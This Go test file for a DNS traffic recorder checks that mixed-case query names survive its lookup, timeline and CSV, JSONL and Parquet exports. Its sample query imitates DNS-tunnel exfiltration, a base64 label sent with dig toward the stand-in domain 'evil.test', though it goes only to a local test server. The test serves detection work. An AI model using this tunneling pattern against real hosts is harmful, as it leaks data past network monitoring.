//go:build linux && (amd64 || arm64)

package record_test

import (
	"bytes"
	"context"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/dnsrec/dnsrec/bpf"
	"github.com/dnsrec/dnsrec/query"
	"github.com/dnsrec/dnsrec/query/export"
	"github.com/dnsrec/dnsrec/record"
)

// TestNameCase: a name sent in mixed case (a tunnel's base64 label) is
// shown as sent by who-resolved, the timeline and the CSV, JSONL and
// Parquet exports, and a lowercase question finds it.
func TestNameCase(t *testing.T) {
	requireRoot(t)
	dig := lookExe(t, "dig")
	const sent, lower = "exfil-aGVsbG8.evil.test", "exfil-agvsbg8.evil.test"
	startServer(t, lower)
	path := filepath.Join(t.TempDir(), "case.db")
	stop := startRecorder(t, path, record.Options{Hook: bpf.TierCgroup})
	pid, _ := run(t, exec.Command(dig, "@127.0.0.1", sent, "A", "+tries=1", "+time=3"))
	stop()

	ctx := context.Background()
	db, err := query.Open(ctx, []string{path})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	rows, err := db.WhoResolved(ctx, lower, query.WhoResolvedOptions{Exact: true})
	if err != nil {
		t.Fatal(err)
	}
	var mine []query.WhoResolvedRow
	for _, r := range rows {
		if r.PID.V == int64(pid) {
			mine = append(mine, r)
		}
	}
	if len(mine) != 1 || mine[0].QName != sent || mine[0].Exe != dig || mine[0].Count != 1 {
		t.Errorf("who-resolved %s, pid %d: %+v; want one row, qname %s, exe %s, count 1", lower, pid, mine, sent, dig)
	}
	var tl []map[string]string
	for _, r := range timelineRows(t, db, pid) {
		if !strings.HasPrefix(r["kind"], "libc") { // dig's getaddrinfo of the server address
			tl = append(tl, r)
		}
	}
	if len(tl) != 2 || tl[0]["qname"] != sent || tl[1]["qname"] != sent {
		t.Errorf("timeline of pid %d: %v; want the query and the response, qname %s", pid, tl, sent)
	}
	for _, as := range []string{"csv", "jsonl", "parquet"} {
		var buf bytes.Buffer
		if _, err := export.Write(ctx, db, &buf, as, query.Filter{PIDs: []int64{int64(pid)}}); err != nil {
			t.Fatalf("export %s: %v", as, err)
		}
		if n := strings.Count(buf.String(), sent); n == 0 || strings.Contains(buf.String(), lower) {
			t.Errorf("export %s of pid %d: %d times %s, lowercase %v", as, pid, n, sent, strings.Contains(buf.String(), lower))
		}
	}
}
